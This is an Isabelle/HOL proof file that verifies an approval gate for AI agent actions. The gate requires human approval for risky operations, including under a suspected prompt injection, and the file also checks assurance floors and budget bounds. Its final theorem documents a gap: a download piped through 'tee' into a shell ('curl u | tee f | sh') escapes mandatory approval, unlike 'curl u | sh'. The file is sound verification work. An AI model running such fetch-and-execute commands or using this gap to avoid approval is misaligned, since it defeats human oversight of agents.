(* ===== verification/Approval_Policy_Props.thy ===== *)
theory Approval_Policy_Props
  imports Approval_Runs Charter_Runs Charter_Gate
begin

text \<open>
  The approval policy and the whole gate. A hardened operation (a strict posture, or a suspected injection before an
  egress, a shell or a change) passes only on an approval, whatever a charter and the decision rights say, and charges
  no budget; a decision meets the assurance that the policy asks for today; the facts of a decision that reach a
  charter are within bounds; and a pipe into a shell that the floor of an injection does not see.
\<close>

section \<open>The hardened gate\<close>

definition hardened :: "policy_env \<Rightarrow> string \<Rightarrow> json \<Rightarrow> bool" where
  "hardened p intent payload =
    (pe_strict p \<or> (pe_injection p \<and> (is_egress intent payload \<or> is_shell p intent payload \<or> is_modify p intent payload)))"

lemma confirmation_in [simp]: "''approval_confirmation'' \<in> set (with_confirmation m)"
  by (simp add: with_confirmation_def)

lemma hardened_policy:
  assumes "hardened p intent payload" "resolveApprovalPolicy p intent payload = Some policy"
  shows "gp_requiresApproval policy" "gp_mandatory policy" "''approval_confirmation'' \<in> set (gp_missing policy)"
  using assms by (auto simp: hardened_def resolveApprovalPolicy_def applyInjectionFloor_def Let_def split: option.splits if_splits)

lemma mandatory_never_passes:
  "gp_mandatory (ga_policy g) \<Longrightarrow> gp_requiresApproval (ga_policy g) \<Longrightarrow> \<not> passes_unapproved g"
  by (simp add: passes_unapproved_def isCharterEligiblePolicy_def effective_policy_def)

lemma allowed_gate_looks_up:
  assumes "enforceApprovalGate env g i st = (Inr res, st')" "gr_allowed res" "\<not> passes_unapproved g"
  obtains ex where "gate_lookup env g ex i st = (Inr res, st')"
  using assms by (auto simp: enforceApprovalGate_def gate_denied_def split: if_splits option.splits)

lemma governed_paramsD:
  assumes "governed_params w k R = Inr (g, R')"
  obtains policy rights outcome where
    "resolveApprovalPolicy (gw_policy w) (gc_intent k) (gc_payload k) = Some policy"
    "charter_branch w k rights R = Inr (outcome, R')"
    "g = (gc_gate k)\<lparr>ga_policy := policy, ga_charter := charter_result_of outcome,
       ga_rightsEscalate := map_option re_requiresEscalation rights\<rparr>"
  using assms by (auto simp: governed_params_def split: option.splits sum.splits prod.splits)

lemma justifies_params [simp]:
  "justifies env st (g\<lparr>ga_policy := a, ga_charter := b, ga_rightsEscalate := c\<rparr>) r = justifies env st g r"
  by (simp add: justifies_def proven_for_def binding_mismatch_def cong: option.case_cong)

text \<open>A charter never charges an action whose policy is mandatory.\<close>

lemma denial_spends_nothing:
  assumes "recordCharterDenial R c x d now corr = Inr (b, R')"
  shows "spent window (ledger_of R' i) = spent window (ledger_of R i)"
  using assms
  by (auto simp: recordCharterDenial_def appendLedger_def put_entry_def ledger_of_def spent_def charged_def update_conv'
      split: if_splits sum.splits option.splits)

lemma mandatory_charges_nothing:
  assumes "runCharterGate u p R q = Inr (outcome, R')" "resolveApprovalPolicy p (gq_intent q) (gq_payload q) = Some policy"
    "gp_mandatory policy"
  shows "spent window (ledger_of R' i) = spent window (ledger_of R i)"
  using assms denial_spends_nothing
  by (auto simp: runCharterGate_def human_needed_def isCharterEligiblePolicy_def
      split: if_splits sum.splits option.splits prod.splits)

text \<open>C5. The hardened gate: in every history of the store, an operation that the whole gate allows under a strict
  posture, or under a suspected injection when it reaches out, runs a shell or changes something, has an
  approval of the store that justifies it; no charter and no decision right stands in for it, and no budget is charged.\<close>

theorem hardened_operations_need_an_approval:
  assumes "approval_reachable E st" and "hardened (gw_policy w) (gc_intent k) (gc_payload k)"
    and "governed_gate w env k i R st = (Inr res, R', st')" and "gr_allowed res"
  shows "(\<exists>r\<in>set (al_requests st). gr_requestId res = Some (aq_id r) \<and> justifies env st (gc_gate k) r) \<and>
    (\<forall>window c. spent window (ledger_of R' c) = spent window (ledger_of R c))"
proof -
  from assms(3) obtain g where g: "governed_params w k R = Inr (g, R')" "enforceApprovalGate env g i st = (Inr res, st')"
    by (auto simp: governed_gate_def split: sum.splits prod.splits)
  from governed_paramsD [OF g(1)] obtain policy rights outcome where
    p: "resolveApprovalPolicy (gw_policy w) (gc_intent k) (gc_payload k) = Some policy"
      "charter_branch w k rights R = Inr (outcome, R')"
      "g = (gc_gate k)\<lparr>ga_policy := policy, ga_charter := charter_result_of outcome,
         ga_rightsEscalate := map_option re_requiresEscalation rights\<rparr>" .
  note mandatory = hardened_policy [OF assms(2) p(1)]
  have "\<not> passes_unapproved g" using mandatory p(3) by (intro mandatory_never_passes) simp_all
  from allowed_gate_looks_up [OF g(2) assms(4) this] obtain ex where "gate_lookup env g ex i st = (Inr res, st')" .
  from lookup_justified [OF assms(1) this assms(4)]
  have "\<exists>r\<in>set (al_requests st). gr_requestId res = Some (aq_id r) \<and> justifies env st (gc_gate k) r"
    by (simp add: p(3))
  moreover have "spent window (ledger_of R' c) = spent window (ledger_of R c)" for window c
    using p(2) mandatory_charges_nothing [OF _ _ mandatory(2)] p(1)
    by (auto simp: charter_branch_def split: option.splits)
  ultimately show ?thesis by blast
qed

section \<open>The assurance floor\<close>

abbreviation reaches :: "assurance_level option \<Rightarrow> assurance_level \<Rightarrow> bool" where
  "reaches lvl l \<equiv> (\<exists>m. lvl = Some m \<and> l \<le> m)"

lemma index_le: "index_of APPROVAL_ASSURANCE_LEVELS l \<le> index_of APPROVAL_ASSURANCE_LEVELS m \<longleftrightarrow> l \<le> m"
  by (simp add: less_eq_assurance_level_def assuranceMeets_def)

lemma raise_reaches: "reaches (raise_floor lvl m) l \<longleftrightarrow> reaches lvl l \<or> l \<le> m"
  by (auto simp: raise_floor_def index_le linorder_not_less split: option.splits)
    (metis index_le linorder_not_less order_trans nle_le)+

lemma consider_reaches:
  "reaches (consider_rule minimum missing lvl) l \<longleftrightarrow>
    reaches lvl l \<or> (\<exists>m. minimum = Some m \<and> l \<le> m) \<or> (has_dual_key missing \<and> l \<le> A3)"
  by (auto simp: consider_rule_def has_dual_key_def Let_def raise_reaches split: option.splits)

lemma fold_reaches:
  "reaches (fold (\<lambda>r. consider_rule (f r) (h r)) rs lvl) l \<longleftrightarrow>
    reaches lvl l \<or> (\<exists>r\<in>set rs. (\<exists>m. f r = Some m \<and> l \<le> m) \<or> (has_dual_key (h r) \<and> l \<le> A3))"
  by (induction rs arbitrary: lvl) (auto simp: consider_reaches)

lemma rule_floor:
  assumes "pe_present p" "pe_policy p = Some f" "truthy_opt i" "r \<in> set (policy_rules f)" "Some (pr_id r) = i"
  shows "pr_min_assurance r = Some l \<Longrightarrow> reaches (resolvePolicyAssuranceFloor p i e) l"
    and "has_dual_key (pr_missing r) \<Longrightarrow> reaches (resolvePolicyAssuranceFloor p i e) A3"
  using assms by (force simp: resolvePolicyAssuranceFloor_def fold_reaches rule_named_def)+

lemma danger_floor:
  assumes "pe_present p" "pe_policy p = Some f" "truthy_opt i" "d \<in> set HARD_CODED_DANGEROUS_RULES" "Some (dr_id d) = i"
    and "has_dual_key (Some (dr_missing d))"
  shows "reaches (resolvePolicyAssuranceFloor p i e) A3"
  using assms by (force simp: resolvePolicyAssuranceFloor_def fold_reaches danger_named_def)

definition resolved_by_rule :: "policy_file \<Rightarrow> gate_policy \<Rightarrow> bool" where
  "resolved_by_rule f a \<longleftrightarrow>
    (\<exists>r\<in>set (policy_rules f). gp_matchedRuleId a = Some (pr_id r) \<and> gp_minAssurance a = pr_min_assurance r \<and>
      (''dual_key_confirmation'' \<in> set (gp_missing a) \<longleftrightarrow> has_dual_key (pr_missing r))) \<or>
    (\<exists>d\<in>set HARD_CODED_DANGEROUS_RULES. gp_matchedRuleId a = Some (dr_id d) \<and> gp_minAssurance a = None \<and>
      (''dual_key_confirmation'' \<in> set (gp_missing a) \<longleftrightarrow> has_dual_key (Some (dr_missing d)))) \<or>
    (gp_minAssurance a = None \<and> ''dual_key_confirmation'' \<notin> set (gp_missing a))"

lemma base_resolved: "resolved_by_rule f (resolveBaseApprovalPolicy p f intent payload)"
  by (auto simp: resolved_by_rule_def resolveBaseApprovalPolicy_def resolve_rule_def has_dual_key_def
      dest: find_Some_in_set split: option.splits)

lemma dual_confirmed [simp]: "''dual_key_confirmation'' \<in> set (with_confirmation m) \<longleftrightarrow> ''dual_key_confirmation'' \<in> set m"
  by (simp add: with_confirmation_def)

lemma resolution_resolved:
  assumes "resolveApprovalPolicy p intent payload = Some a" "\<not> pe_injection p" "pe_policy p = Some f"
  shows "resolved_by_rule f a"
  using assms base_resolved [of f p intent payload]
  by (auto simp: resolveApprovalPolicy_def applyInjectionFloor_def Let_def resolved_by_rule_def split: if_splits)

lemma danger_ids: "d \<in> set HARD_CODED_DANGEROUS_RULES \<Longrightarrow> dr_id d \<noteq> []"
  by (auto simp: HARD_CODED_DANGEROUS_RULES_def)

lemma resolved_floor:
  assumes "pe_present p" "pe_policy p = Some f" "resolved_by_rule f a" "\<forall>r\<in>set (policy_rules f). pr_id r \<noteq> []"
  shows "gp_minAssurance a = Some l \<Longrightarrow> reaches (resolvePolicyAssuranceFloor p (gp_matchedRuleId a) e) l"
    and "''dual_key_confirmation'' \<in> set (gp_missing a) \<Longrightarrow> reaches (resolvePolicyAssuranceFloor p (gp_matchedRuleId a) e) A3"
  using assms rule_floor [OF assms(1,2)] danger_floor [OF assms(1,2)] danger_ids
  by (auto simp: resolved_by_rule_def truthy_opt_def)

lemma required_reaches:
  assumes "reaches (policy_floor env (ac_policy_rule_id ac) (ac_effectBinding ac)) l"
  shows "l \<le> requiredDecisionAssurance env ac channel"
  using assms by (auto simp: requiredDecisionAssurance_def Let_def strongerAssurance_max le_max_iff_disj)

text \<open>A decision meets the policy of today: whatever an older request recorded, a human decision on it has to carry
  at least the assurance that the policy in force asks of the rule it records, and the highest one where that rule asks
  for two keys.\<close>

theorem decisions_meet_the_policy_of_today:
  assumes "resolveApprovalPolicy p intent payload = Some policy" and "\<not> pe_injection p" and "pe_present p"
    and "pe_policy p = Some f" and "list_all (\<lambda>r. pr_id r \<noteq> []) (policy_rules f)"
    and "ae_policyFloor env = resolvePolicyAssuranceFloor p" and "ac_policy_rule_id ac = gp_matchedRuleId policy"
  shows "(gp_minAssurance policy = Some l \<longrightarrow> l \<le> requiredDecisionAssurance env ac channel) \<and>
    (''dual_key_confirmation'' \<in> set (gp_missing policy) \<longrightarrow> requiredDecisionAssurance env ac channel = A3)"
proof -
  note floors = resolved_floor [OF assms(3,4) resolution_resolved [OF assms(1,2,4)], where e = "ac_effectBinding ac"]
  have "policy_floor env (ac_policy_rule_id ac) (ac_effectBinding ac) =
      resolvePolicyAssuranceFloor p (gp_matchedRuleId policy) (ac_effectBinding ac)"
    by (auto simp: policy_floor_def assms(6,7) resolvePolicyAssuranceFloor_def)
  moreover have "l = A3" if "A3 \<le> l" for l
    using that by (cases l) (simp_all add: less_eq_assurance_level_def assuranceMeets_def APPROVAL_ASSURANCE_LEVELS_def)
  ultimately show ?thesis using floors required_reaches [of env ac _ channel] assms(5) by (auto simp: list_all_iff)
qed

section \<open>The facts of a decision\<close>

lemma decision_inputD:
  assumes "charterInputForDecision vocabulary R tenant agentId t amt recips flow now = Inr (Some (x, unknown))"
  obtains e actor facts where "findCharterDecision vocabulary t = Some e" "x = decision_action e actor amt recips facts"
    "unknown = (vo_amount e \<noteq> AmountNone \<and> \<not> usable_amount amt)"
  using assms by (auto simp: charterInputForDecision_def with_charter_actor_def split: option.splits sum.splits if_splits)

lemma decision_action_bounds:
  "0 \<le> action_money (decision_action e actor amt recips flow)"
  "\<not> xa_reversible (decision_action e actor amt recips flow) \<Longrightarrow>
    \<exists>l. xa_loss (decision_action e actor amt recips flow) = Some l \<and> action_money (decision_action e actor amt recips flow) \<le> l"
  "vo_amount e \<noteq> AmountNone \<Longrightarrow> \<not> usable_amount amt \<Longrightarrow> xa_amount (decision_action e actor amt recips flow) = None"
  by (auto simp: decision_action_def action_money_def Let_def usable_amount_def split: option.splits)

lemma unknown_is_not_delegated:
  "runCharterGate u p R q = Inr (outcome, R') \<Longrightarrow> gq_amountUnknown q \<Longrightarrow> outcome \<noteq> GoAllow c"
  by (auto simp: runCharterGate_def human_needed_def split: if_splits sum.splits option.splits prod.splits)

text \<open>C31. The facts of a governed decision keep to the bounds that the ledger needs: its amount is never negative, an
  irreversible one counts its whole amount as loss, and one of an unknown amount is never let through by a charter; so
  that the branch of the charter on them stays within the histories that keep the budgets.\<close>

theorem governed_decisions_keep_the_bounds:
  assumes "charter_reachable no_negative_amount u sha s R"
    and "charterInputForDecision vocabulary R tenant agentId t amt recips flow now = Inr (Some (gq_action q, gq_amountUnknown q))"
    and "runCharterGate u p R q = Inr (outcome, R')"
  shows "charter_reachable no_negative_amount u sha s R' \<and> 0 \<le> action_money (gq_action q) \<and>
    (\<not> xa_reversible (gq_action q) \<longrightarrow> (\<exists>l. xa_loss (gq_action q) = Some l \<and> action_money (gq_action q) \<le> l)) \<and>
    (gq_amountUnknown q \<longrightarrow> xa_amount (gq_action q) = None \<and> (\<forall>c. outcome \<noteq> GoAllow c))"
proof -
  from decision_inputD [OF assms(2)] obtain e actor facts where q: "gq_action q = decision_action e actor amt recips facts"
    "gq_amountUnknown q = (vo_amount e \<noteq> AmountNone \<and> \<not> usable_amount amt)" by blast
  note bounds = decision_action_bounds [where e = e and actor = actor and amt = amt and recips = recips and flow = facts, folded q(1)]
  from charter_reachable.gate [OF assms(1) _ assms(3)] bounds unknown_is_not_delegated [OF assms(3)] q(2)
  show ?thesis by (simp add: no_negative_amount_def)
qed

section \<open>Runs\<close>

definition governed :: "gate_params \<Rightarrow> governed_call" where
  "governed g = \<lparr>gc_gate = g, gc_intent = ''git:push'', gc_payload = JObj [], gc_callerRole = None, gc_charter = None\<rparr>"

definition strict_world :: gate_world where
  "strict_world = \<lparr>gw_policy = plain_policy\<lparr>pe_strict := True\<rparr>, gw_rights = (\<lambda>_. None), gw_number = (\<lambda>_. None), gw_urls = no_urls\<rparr>"

definition invoices :: "decision_entry list" where
  "invoices = [\<lparr>vo_type = ''pay_invoice'', vo_class = ''payment'', vo_reversible = False, vo_amount = AmountSpend,
     vo_reputation = None, vo_recipients = None, vo_systems = None, vo_requires_delegation = False\<rparr>]"

definition invoice :: "rat option \<Rightarrow> charter_request" where
  "invoice amt = (pay_request 0 ''inv-3'' 2000)\<lparr>
     gq_action := decision_action (hd invoices)
       \<lparr>ar_kind = AgentActor, ar_id = ''kyberion://agent/acme/worker'', ar_on_behalf = Some ''user:owner''\<rparr> amt None None,
     gq_amountUnknown := amt = None\<rparr>"

lemma evaluated_gates:
  "governed_gate strict_world (strict_env 4000) (governed (push_gate ''c1'')) second_id scope1 push_state =
     (Inr (gate_approved first_id), scope1, push_state) \<and>
   charterInputForDecision invoices scope1 (Some ''acme'') (Some ''worker'') ''pay_invoice'' None None JUndef 2000 =
     Inr (Some (gq_action (invoice None), gq_amountUnknown (invoice None))) \<and>
   runCharterGate no_urls plain_policy scope1 (invoice None) = Inr (GoRequire, scope1)"
  by code_simp

lemmas strict_push = evaluated_gates [THEN conjunct1]

lemmas invoice_facts = evaluated_gates [THEN conjunct2, THEN conjunct1]

lemmas invoice_stopped = evaluated_gates [THEN conjunct2, THEN conjunct2]

lemma hardened_operations_need_an_approval_witness:
  "\<exists>r\<in>set (al_requests push_state). gr_requestId (gate_approved first_id) = Some (aq_id r) \<and>
    justifies (strict_env 4000) push_state (push_gate ''c1'') r"
proof -
  have "hardened (gw_policy strict_world) (gc_intent (governed (push_gate ''c1''))) (gc_payload (governed (push_gate ''c1'')))"
    by (simp add: hardened_def strict_world_def)
  from hardened_operations_need_an_approval [OF push_reachable this strict_push]
  show ?thesis by (simp add: gate_approved_def governed_def)
qed

definition two_keys :: policy_rule where
  "two_keys = \<lparr>pr_id = ''release'', pr_intent_ids = Some [''git:push''], pr_payload_field = None, pr_any_of = None,
     pr_requires_approval = True, pr_missing = Some [''dual_key_confirmation''], pr_min_assurance = Some A2\<rparr>"

definition release_file :: policy_file where
  "release_file = \<lparr>pf_separation = Some True, pf_assurance_mode = Some EnforceMode, pf_cooldown_hours = None,
     pf_rules = Some [two_keys], pf_default_requires = None\<rparr>"

definition release_policy :: policy_env where
  "release_policy = plain_policy\<lparr>pe_policy := Some release_file\<rparr>"

lemma decisions_meet_the_policy_of_today_witness:
  "requiredDecisionAssurance ((strict_env 0)\<lparr>ae_policyFloor := resolvePolicyAssuranceFloor release_policy\<rparr>)
    ((gate_accountability (push_gate ''c1''))\<lparr>ac_policy_rule_id := Some ''release''\<rparr>) None = A3"
proof -
  have "resolveApprovalPolicy release_policy ''git:push'' (JObj []) = Some (resolve_rule two_keys)" by code_simp
  note today = decisions_meet_the_policy_of_today [OF this, of release_file
    "(strict_env 0)\<lparr>ae_policyFloor := resolvePolicyAssuranceFloor release_policy\<rparr>"
    "(gate_accountability (push_gate ''c1''))\<lparr>ac_policy_rule_id := Some ''release''\<rparr>" A2 None]
  show ?thesis
    using today by (simp add: release_policy_def plain_policy_def release_file_def two_keys_def resolve_rule_def policy_rules_def)
qed

lemma governed_decisions_keep_the_bounds_witness:
  "xa_amount (gq_action (invoice None)) = None \<and> 0 \<le> action_money (gq_action (invoice None)) \<and> gq_amountUnknown (invoice None)"
proof -
  have "gq_amountUnknown (invoice None)" by (simp add: invoice_def)
  with governed_decisions_keep_the_bounds [OF scopes_reachable(1) invoice_facts invoice_stopped] show ?thesis by blast
qed

section \<open>A pipe into a shell\<close>

definition suspicious :: policy_env where
  "suspicious = plain_policy\<lparr>pe_injection := True\<rparr>"

definition command_payload :: "string \<Rightarrow> json" where
  "command_payload c = JObj [(''command'', JStr c)]"

text \<open>The floor of a suspected injection looks at the first pipe only: a download that runs through another program
  into a shell is dangerous to the policy, yet its approval is not mandatory, and the session cache may serve it; the
  same download straight into a shell is mandatory.\<close>

theorem injection_floor_misses_a_pipe:
  "(\<exists>a. resolveApprovalPolicy suspicious ''summarize'' (command_payload ''curl u | tee f | sh'') = Some a \<and>
     gp_matchedRuleId a = Some ''fallback-dangerous-shell'' \<and> \<not> gp_mandatory a \<and>
     cache_eligible ((push_gate ''c1'')\<lparr>ga_policy := a\<rparr>)) \<and>
   (\<exists>a. resolveApprovalPolicy suspicious ''summarize'' (command_payload ''curl u | sh'') = Some a \<and> gp_mandatory a)"
proof -
  let ?a = "\<lparr>gp_requiresApproval = True, gp_missing = [''approval_confirmation''],
    gp_matchedRuleId = Some ''fallback-dangerous-shell'', gp_mandatory = False, gp_minAssurance = None\<rparr>"
  let ?b = "\<lparr>gp_requiresApproval = True, gp_missing = [''approval_confirmation''],
    gp_matchedRuleId = Some ''injection-suspected-override'', gp_mandatory = True, gp_minAssurance = None\<rparr>"
  have "resolveApprovalPolicy suspicious ''summarize'' (command_payload ''curl u | tee f | sh'') = Some ?a \<and>
      cache_eligible ((push_gate ''c1'')\<lparr>ga_policy := ?a\<rparr>) \<and>
      resolveApprovalPolicy suspicious ''summarize'' (command_payload ''curl u | sh'') = Some ?b"
    by code_simp
  then show ?thesis by simp
qed

end
